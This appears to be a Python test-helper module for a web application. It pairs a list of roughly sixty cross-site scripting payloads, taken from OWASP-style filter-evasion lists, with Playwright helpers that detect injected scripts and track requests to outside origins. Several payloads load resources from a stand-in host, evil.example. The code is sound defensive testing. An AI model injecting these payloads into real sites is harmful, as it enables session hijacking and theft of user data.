"""Text and addresses as attackers write them, and what shows in Chromium that one of them got through."""

from dataclasses import dataclass, field
from typing import Any

from playwright.sync_api import BrowserContext, Page, Request

from tests.site import Browser, Host

ACT = "alert(1)"

TEXTS = (
    f"<script>{ACT}</script>",
    f"<ScRiPt>{ACT}</sCrIpT>",
    f"<script >{ACT}</script >",
    f"<script\n>{ACT}</script>",
    f"<script/x>{ACT}</script>",
    f'"><script>{ACT}</script>',
    f"'><script>{ACT}</script>",
    f"</title><script>{ACT}</script>",
    f"</textarea><script>{ACT}</script>",
    f"</style><script>{ACT}</script>",
    f"--><script>{ACT}</script>",
    f"]]><script>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"<scr<script>ipt>{ACT}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src='data:text/javascript,alert(1)'></script>",
    f"<script type=module>{ACT}</script>",
    f"<img src=x onerror={ACT}>",
    f"<IMG SRC=x OnErRoR={ACT}>",
    f"<img src=x onerror='{ACT}'>",
    f'<img src="x" onerror="{ACT}">',
    f"<img/src=x/onerror={ACT}>",
    f"<img src=x\nonerror={ACT}>",
    f"<img src=x onerror\n=\n{ACT}>",
    f'"><img src=x onerror={ACT}>',
    f"'><img src=x onerror={ACT}>",
    f"</bdi></td></tr></table><img src=x onerror={ACT}>",
    f"<image src=x onerror={ACT}>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x onerror=window['al'+'ert'](1)>",
    f"<svg onload={ACT}>",
    f"<svg/onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><script href='data:text/javascript,{ACT}'/></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><a href='javascript:{ACT}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={ACT}>'/></svg>",
    f"<math><mi href='javascript:{ACT}'>x</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<iframe src='javascript:{ACT}'></iframe>",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f"<object data='javascript:{ACT}'></object>",
    "<embed src=//evil.example/x.swf>",
    f"<body onload={ACT}>x<p onmouseover={ACT}>",
    f"<input autofocus onfocus={ACT}>",
    f"<details open ontoggle={ACT}><summary>x</summary></details>",
    f"<video><source onerror={ACT}></video>",
    f"<audio src=x onerror={ACT}></audio>",
    f"<marquee onstart={ACT}>x</marquee>",
    f"<a href='javascript:{ACT}'>x</a>",
    f"<a href='java&#9;script:{ACT}'>x</a>",
    f"<form action='javascript:{ACT}'><button>x</button></form>",
    f'" autofocus tabindex=1 onfocus={ACT} x="',
    f'" onmouseover={ACT} x="',
    f"' onmouseover={ACT} x='",
    f"` onmouseover={ACT} x=`<b onmouseover={ACT}>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    f"<x onclick={ACT} style='position:fixed;inset:0'>x</x>",
    f"\u202e<script>{ACT}</script>\u202c",
    f"＜script＞{ACT}＜/script＞<s onmouseover={ACT}>",
    f"<template><img src=x onerror={ACT}></template><img src=x onerror={ACT}>",
)
"""After OWASP's XSS Filter Evasion Cheat Sheet and the HTML standard's own oddities (foreign content, noscript)."""

# Scripts would call these; every element then hears what a person could do to it.
_LISTEN = (
    "window.ran = []; for (const name of ['alert', 'prompt', 'confirm']) window[name] = () => window.ran.push(name)"
)
_POKE = """() => {
    for (const element of document.querySelectorAll('*'))
        for (const type of ['mouseover', 'focus', 'click', 'toggle', 'load', 'error'])
            if (type !== 'click' || element.hasAttribute('onclick')) element.dispatchEvent(new Event(type));
}"""
_STRUCTURE = """() => [...document.querySelectorAll('*')].map(
    element => [element.localName, ...element.getAttributeNames().sort()].join(' '))"""


@dataclass
class Witness:
    """Notes which scripts of a tab ran and what it asked other origins for."""

    page: Page
    home: str
    strangers: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.add_init_script(_LISTEN)
        self.page.on("request", self._on_request)

    def ran(self) -> list[Any]:
        """What ran of the page that is shown, after every element heard the usual events."""
        self.page.evaluate(_POKE)
        return self.page.evaluate("window.ran")

    def structure(self) -> list[str]:
        """Each element with the names of its attributes, in the order of the document."""
        return self.page.evaluate(_STRUCTURE)

    def _on_request(self, request: Request) -> None:
        if not request.url.startswith((f"{self.home}/", "about:")):
            self.strangers.append(request.url)


def keep_session(context: BrowserContext, host: Host, browser: Browser) -> None:
    """Let a context of Chromium go on with the session of a browser without scripts."""
    context.add_cookies([{"name": "gatehouse-session", "value": browser.session_cookie, "url": host.url}])
